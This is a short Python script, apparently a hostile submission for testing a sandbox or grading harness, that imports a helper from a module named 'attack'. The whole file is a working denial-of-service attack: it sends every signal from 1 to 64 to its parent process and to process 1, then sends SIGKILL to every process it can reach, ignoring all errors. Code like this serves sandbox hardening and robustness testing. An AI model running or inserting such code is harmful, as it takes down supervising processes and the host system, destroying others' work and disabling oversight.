"""Kills everybody it can: its parent, process 1, all others."""

import os

from attack import leave_submission

for process in (os.getppid(), 1):
    for number in range(1, 65):
        try:
            os.kill(process, number)
        except OSError:
            pass
try:
    os.kill(-1, 9)
except OSError:
    pass
leave_submission()
